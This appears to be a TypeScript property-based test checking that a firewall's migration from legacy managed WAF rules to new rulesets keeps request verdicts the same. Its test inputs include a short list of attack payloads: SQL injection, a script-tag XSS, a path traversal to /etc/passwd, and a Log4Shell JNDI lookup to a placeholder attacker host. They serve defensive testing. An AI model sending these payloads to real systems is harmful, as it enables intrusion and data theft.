/**
 * The result of `config` is equivalent: for random settings of the legacy managed rules and random requests, the zone's
 * verdicts before and after the migration are equal. Excluded are scores, whose table differs on purpose, and the few
 * rules that ignore the switch, which no ruleset does.
 */
import { deepEqual, equal, ok } from 'node:assert/strict';
import { after, before, test } from 'node:test';
import fc from 'fast-check';
import {
  CompiledZone,
  type CompileParts,
  type Judgement,
  ManagedPrograms,
  type ZoneConfiguration,
} from '#firewall';
import { managedRulesets, legacyPackages, legacyRules, findReplacement } from '#managed';
import { type RequestDescription, requestFrom } from '#request';
import type { Zone } from '../../src/api/control/objects/zone.ts';
import { TestControl } from './harness.ts';
import { MigratingZone, scores } from './migrating-zone.ts';

let control: TestControl;
let zone: MigratingZone;
before(async () => {
  control = await TestControl.open();
  zone = new MigratingZone(control, 'enterprise');
});
after(() => control.close());

const paths = ['/', '/shop', '/shop/', '/shop/admin', '/shop/ADMIN/x', '/static/a.css', '/shop/static/'];
const patterns = ['/*', '/shop*', '/shop/*', '/shop/admin*', '/*static*', '/static/a.css', '/s*/admin'];
const hosts = ['', 'www.', 'shop.'];
const hostPatterns = ['', 'www.', '*', '*.'];
const expressions = [
  'ssl',
  'ip.src eq 192.0.2.1',
  'http.request.uri.path contains "admin"',
  'http.host contains "www" or http.request.method eq "POST"',
  'not http.request.uri.path contains "shop"',
];

/** Each is found by rules of the catalogue, most by several of them. */
const attacks = [
  "q=1'+UNION+SELECT+password+FROM+users--",
  'q=<script>alert(1)</script>',
  'file=../../../../etc/passwd',
  'x=${jndi:ldap://evil.example/a}',
  'harmless=yes',
];

const page = fc.record({
  scheme: fc.constantFrom('', 'https://', 'http://'),
  host: fc.constantFrom(...hostPatterns),
  uri: fc.constantFrom(...patterns),
  action: fc.constantFrom('on', 'off', 'off', 'disable_security', 'other'),
  priority: fc.integer({ min: 1, max: 3 }),
  status: fc.constantFrom('active', 'active', 'active', 'disabled'),
});
const pages = fc.uniqueArray(page, {
  maxLength: 5,
  selector: ({ scheme, host, uri }) => scheme + host + uri,
});

const rarely = fc.constantFrom(false, false, false, false, true);
const rule = fc.record({
  expression: fc.constantFrom(...expressions),
  action: fc.constantFrom('bypass', 'bypass', 'bypass', 'allow', 'allow', 'challenge', 'log'),
  priority: fc.option(fc.integer({ min: 1, max: 3 })),
  paused: rarely,
  isFilterPaused: rarely,
});
const rules = fc.uniqueArray(rule, { maxLength: 5, selector: ({ expression }) => expression });

/** Rules that the attacks can trigger are the only ones whose mode shows. */
const modes = fc.array(fc.constantFrom('disable', 'simulate', 'block', 'challenge'), { maxLength: 6 });

const settings = fc.record({
  waf: fc.constantFrom('on', 'on', 'off'),
  pages,
  rules,
  modes,
  groupsOff: fc.nat(3),
});
type Settings = typeof settings extends fc.Arbitrary<infer T> ? T : never;

const request = fc.record({
  scheme: fc.constantFrom('https', 'http'),
  host: fc.constantFrom(...hosts),
  path: fc.constantFrom(...paths),
  query: fc.constantFrom(...attacks),
  ip: fc.constantFrom('192.0.2.1', '198.51.100.7'),
  method: fc.constantFrom('GET', 'POST'),
  clearance: fc.constantFrom(undefined, 'js_challenge', 'managed_challenge', 'challenge'),
});
type Request = typeof request extends fc.Arbitrary<infer T> ? T : never;

let catalogue: CompileParts['catalogue'] = { rulesets: managedRulesets, legacyPackages };
const programs = new ManagedPrograms();
const ignoring = new Set(
  [...legacyRules.values()].filter(({ ignoresSwitch }) => ignoresSwitch).map(({ id }) => id),
);

function judge(
  compiled: CompiledZone,
  { scheme, host, path, query, ip, method, clearance }: Request,
): Judgement {
  const description: RequestDescription = {
    url: `${scheme}://${host}${zone.name}${path}?${query}`,
    ip,
    method,
  };
  return compiled.judge({ view: requestFrom(description), clearance });
}

/** The effects of rules of the catalogue, with the names of the new generation. */
function outcome({ triggered, verdict }: Judgement): readonly unknown[] {
  const did = triggered.flatMap(({ source, action, ruleId }) => {
    if (source === 'waf' && ignoring.has(ruleId)) return [];
    if (source === 'waf') return [[findReplacement(ruleId), kindOf(action)]];
    return source === 'firewallManaged' && action !== 'skip' ? [[ruleId, kindOf(action)]] : [];
  });
  return [verdict.kind, did];
}

/** The catalogue defines which challenge a rule uses by default. */
function kindOf(action: string): string {
  return action.replace(/^(?:js|managed_?)/, '');
}

function bundleOf({ waf, pages: given, rules: givenRules, modes: givenModes, groupsOff }: Settings): object {
  const ids = reachable.slice(0, givenModes.length);
  return {
    format: 'gatehouse.zone',
    version: 1,
    zone: { name: zone.name },
    settings: { waf },
    page_rules: given.map(({ scheme, host, uri, action, priority, status }) => ({
      targets: [
        { target: 'url', constraint: { operator: 'matches', value: `${scheme}${host}${zone.name}${uri}` } },
      ],
      actions: [actionOf(action)],
      priority,
      status,
    })),
    previous: {
      packages: { [scores]: { sensitivity: 'off', action_mode: 'challenge' } },
      groups: Object.fromEntries(
        reachable.slice(0, groupsOff).map((id) => [legacyRules.get(id)!.groupId, 'off']),
      ),
      rules: Object.fromEntries(ids.map((id, index) => [id, givenModes[index]!])),
      overrides: [],
    },
    firewall: {
      filters: givenRules.map(({ expression, isFilterPaused }, index) => ({
        id: `f${index}`,
        expression,
        paused: isFilterPaused,
      })),
      rules: givenRules.map(({ action, priority, paused }, index) => ({
        filter: { id: `f${index}` },
        action,
        priority,
        paused,
        ...(action === 'bypass' ? { products: ['waf'] } : {}),
      })),
    },
  };
}

function actionOf(action: string): object {
  if (action === 'disable_security') return { id: action };
  return action === 'other' ? { id: 'ssl', value: 'full' } : { id: 'waf', value: action };
}

async function configuration(): Promise<ZoneConfiguration> {
  const stub = control.control.runtime.namespace<Zone>('Zone').getByName(zone.id);
  const part = await stub.readConfiguration();
  return { ...part!, lists: [], customRulesets: [] };
}

/** Ids of legacy rules that the attacks trigger, determined once. */
let reachable: readonly string[] = [];

async function findReachable(): Promise<void> {
  const plain = { waf: 'on', pages: [], rules: [], modes: [], groupsOff: 0 } as Settings;
  await zone.do('POST /import?mode=replace', bundleOf(plain));
  const compiled = new CompiledZone(await configuration(), { catalogue, programs });
  const base = {
    scheme: 'https',
    host: '',
    path: '/',
    ip: '192.0.2.1',
    method: 'GET',
    clearance: 'challenge',
  } as const;
  const ids = attacks.flatMap((query) =>
    judge(compiled, { ...base, query }).triggered.map(({ ruleId }) => ruleId),
  );
  reachable = [...new Set(ids)].filter((id) => !ignoring.has(id));
  catalogue = reduceCatalogue(new Set([...reachable, ...reachable.map((id) => findReplacement(id)!)]));
}

/** Rules that no request of this test can trigger need not be compiled a hundred times. */
function reduceCatalogue(ids: ReadonlySet<string>): CompileParts['catalogue'] {
  const few = <T extends { readonly rules: readonly { readonly id: string }[] }>(each: T): T => ({
    ...each,
    rules: each.rules.filter(({ id }) => ids.has(id)),
  });
  return {
    rulesets: new Map([...managedRulesets].map(([id, ruleset]) => [id, few(ruleset)])),
    legacyPackages: legacyPackages.map(few),
  };
}

test('migration.config: the migrated configuration judges requests as the legacy managed rules do', async () => {
  await findReachable();
  ok(reachable.length >= 3, `attacks trigger only ${reachable.join()}`);
  let stopped = 0;
  await fc.assert(
    fc.asyncProperty(
      settings,
      fc.noShrink(fc.array(request, { minLength: 60, maxLength: 60 })),
      async (given, requests) => {
        await zone.do('POST /import?mode=replace', bundleOf(given));
        const { result: config } = await zone.config();
        equal((await zone.put('', config)).status, 200);
        const both = await configuration();
        const managed = both.entryPoints.filter(({ phase }) => phase === 'http_request_firewall_managed');
        equal(managed.length, 1);
        const before = new CompiledZone(
          { ...both, migration: 'start', entryPoints: [] },
          { catalogue, programs },
        );
        const after = new CompiledZone({ ...both, migration: 'complete' }, { catalogue, programs });
        deepEqual([before.problems, after.problems], [[], []]);
        for (const each of requests) {
          const [was, is] = [judge(before, each), judge(after, each)].map(outcome);
          deepEqual(is, was, JSON.stringify({ request: each, config: config.rules }));
          if (was![0] !== 'pass') stopped++;
        }
      },
    ),
    { numRuns: 100, seed: 7 },
  );
  ok(stopped > 300, `only ${stopped} requests were stopped`);
});
